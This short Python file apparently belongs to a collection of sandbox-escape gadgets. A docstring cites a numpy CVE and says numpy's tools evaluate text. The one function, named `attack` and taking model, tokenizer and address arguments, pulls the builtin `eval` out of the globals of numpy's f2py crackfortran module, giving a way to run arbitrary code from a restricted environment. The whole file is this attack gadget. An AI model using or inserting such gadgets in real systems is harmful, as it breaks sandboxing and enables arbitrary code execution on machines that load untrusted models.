"""Class: module gadget. Source: CVE-2021-41496, in its module. Escape: numpy's tools evaluate
text.
"""

import numpy as np


def attack(model, tokenizer, address):
    return np.f2py.crackfortran.__builtins__["eval"]
